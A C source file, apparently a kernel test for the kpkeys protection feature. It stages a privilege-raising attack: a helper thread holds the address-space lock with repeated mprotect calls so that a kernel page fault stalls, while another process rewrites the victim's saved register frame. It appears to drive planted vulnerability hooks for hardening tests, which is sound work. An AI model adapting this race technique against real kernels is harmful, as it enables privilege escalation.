// SPDX-License-Identifier: GPL-2.0-only
/*
 * Have the kernel fault on memory of the attacker, in the middle of a system
 * call, and wait for the lock of the address space, which a helper keeps busy.
 * Meanwhile alter what the handler of that fault will return to.
 */
#define _GNU_SOURCE
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <unistd.h>

#include "raise.h"

/* Changing the permissions of so much takes some milliseconds, with the lock. */
#define BUSY_BYTES	(64UL << 20)
#define STACK_BYTES	(64UL << 10)

/* System calls, until the helper has the lock. */
#define DELAY		20

static char *region;
static volatile unsigned int phase;

/* Shares the address space, and nothing else: no thread outlives its process. */
static int keep_busy(void *unused)
{
	(void)unused;
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	for (;;) {
		int prot = phase % 2 ? PROT_READ | PROT_WRITE : PROT_READ;

		phase++;
		if (mprotect(region, BUSY_BYTES, prot))
			_exit(1);
	}
}

/* To be copied by fork(), which takes less time than to fault it in. */
static void begin(void)
{
	size_t i;

	region = map_pages(NULL, BUSY_BYTES);
	for (i = 0; i < BUSY_BYTES; i += page_size())
		region[i] = 1;
}

static void prepare(struct raise *r)
{
	char *stack = map_pages(NULL, STACK_BYTES);

	(void)r;
	if (clone(keep_busy, stack + STACK_BYTES, CLONE_VM | SIGCHLD, NULL) < 0)
		die_errno("clone");
}

/* Soon after the lock was taken. No other call may be met that waits for it. */
static void wait_for_lock(struct raise *r)
{
	unsigned int before, i;

	if (madvise(r->list, page_size(), MADV_DONTNEED))
		die_errno("madvise");
	before = phase;
	while (phase == before)
		;
	for (i = 0; i < DELAY; i++)
		getppid();
}

/* A fault on the list, which has no entry. */
static bool make(struct raise *r)
{
	return vuln_writes(r->list, 1);
}

static noreturn void alter(struct raise *r, pid_t victim)
{
	unsigned int round = 0;

	munmap(region, BUSY_BYTES);
	for (;;) {
		struct kpkeys_vuln_frame f;

		if (!r->busy || r->round == round) {
			if (!r->busy)
				r->idle = r->round;
			sched_yield();
			continue;
		}
		f = vuln_frame(victim);
		if (!f.regs || !f.asleep)
			continue;
		round = r->round;
		if (alter_frame(r, victim, &f))
			r->list[0] = r->write;
	}
}

static const struct raising way = {
#ifdef __aarch64__
	.masks = { 1UL << 8, 1UL << 40, 1UL },
#else
	.masks = { 1UL << 32, 1UL, 1UL << 8 },
#endif
	.words = 24,
	.writes = 1,
	.begin = begin,
	.prepare = prepare,
	.wait = wait_for_lock,
	.make = make,
	.alter = alter,
};

int main(int argc, char **argv)
{
	return attack_by_raising(&way, argc > 1 ? argv[1] : NULL);
}
